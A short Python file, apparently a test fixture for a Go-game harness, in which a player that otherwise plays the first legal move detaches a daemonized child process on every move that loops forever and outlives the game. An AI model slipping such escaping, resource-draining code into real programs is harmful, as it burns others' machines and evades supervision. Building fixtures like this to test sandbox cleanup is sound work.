"""Leaves a child in a session of its own, which goes on after the game."""

import os


def first_legal(go, piece_type):
    points = ((i, j) for i in range(go.size) for j in range(go.size))
    return next(point for point in points if go.valid_place_check(*point, piece_type, test_check=True))


class MyPlayer:
    def get_input(self, go, piece_type):
        if not os.fork():
            os.setsid()
            if os.fork():
                os._exit(0)
            while True:
                pass
        return first_legal(go, piece_type)
